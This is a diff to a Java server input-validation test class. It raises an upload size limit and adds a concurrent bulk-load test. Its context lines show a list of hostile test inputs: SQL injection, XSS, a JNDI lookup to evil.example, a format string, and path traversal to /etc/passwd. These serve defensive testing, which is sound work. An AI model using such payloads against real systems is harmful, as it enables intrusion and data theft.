@@ -27,7 +27,7 @@ import static org.assertj.core.api.Assertions.assertThat;
  * server's own names, limited in size, and loaded with every line accounted for.
  */
 class ServerInputTest {
-    static final long MAX_JSON = 4096, MAX_UPLOAD = 64 * 1024;
+    static final long MAX_JSON = 4096, MAX_UPLOAD = 512 * 1024;
     static final List<String> HOSTILE = List.of("' OR 1=1 --", "\"; DROP TABLE record; --", "<script>alert(1)</script>",
             "${jndi:ldap://evil.example/a}", "%s%s%s%n", "../../etc/passwd", "x".repeat(999), "x".repeat(5000),
             "\u0000", "a\u0000b", "\u0007bell", "line\nbreak", "\u001B[31mred", "\uFEFFbom", "Дмитрий Иванов",
@@ -325,6 +325,47 @@ class ServerInputTest {
         assertThat(hits.path("items")).isNotEmpty();
         assertThat(hits.path("items").get(0).path("record").asText()).startsWith("S:U");
         assertThat(t.uploads.resolve(id + ".jsonl")).doesNotExist(); // loaded, then deleted
+    }
+
+    @Test
+    void a_load_of_several_batches_runs_between_requests_that_keep_being_answered() throws Exception {
+        StringBuilder extract = new StringBuilder();
+        int n = 3 * Loads.BATCH + 17;
+        for (int i = 0; i < n; i++) {
+            extract.append(TestServer.person("L" + i, "Given" + Integer.toString(i, 26), "Surname" + Integer.toString(i * 7, 26),
+                    (1930 + i % 70) + "-0" + (1 + i % 9) + "-1" + (i % 9), "")).append('\n');
+        }
+        assertThat(extract.length()).isLessThan((int) MAX_UPLOAD);
+        String id = t.upload("S", "batches.jsonl", extract.toString()).json().path("id").asText();
+        List<String> wrong = java.util.Collections.synchronizedList(new ArrayList<>());
+        java.util.concurrent.atomic.AtomicBoolean done = new java.util.concurrent.atomic.AtomicBoolean();
+        List<Thread> readers = new ArrayList<>();
+        for (int k = 0; k < 3; k++) {
+            Thread reader = new Thread(() -> {
+                while (!done.get()) {
+                    for (String path : List.of("/api/search?name=Anna+Kowalski", "/api/entities/" + t.subject,
+                            "/api/cases/" + t.caseId + "/subjects")) {
+                        TestServer.Response res = t.get(Role.ANALYST, path);
+                        if (res.status() != 200) wrong.add(path + ": " + res);
+                    }
+                }
+            });
+            reader.start();
+            readers.add(reader);
+        }
+        JsonNode status;
+        try {
+            status = t.awaitLoad(id);
+        } finally {
+            done.set(true);
+            for (Thread r : readers) r.join();
+        }
+        assertThat(wrong).isEmpty();
+        assertThat(status.path("state").asText()).as("%s", status).isEqualTo("DONE");
+        assertThat(status.path("read").asLong()).isEqualTo(n);
+        assertThat(status.path("accepted").asLong()).isEqualTo(n);
+        assertThat(t.get(Role.ANALYST, "/api/search?name=Given" + Integer.toString(n - 1, 26) + "+Surname"
+                + Integer.toString((n - 1) * 7, 26)).json().path("items")).isNotEmpty();
     }
 
     @Test
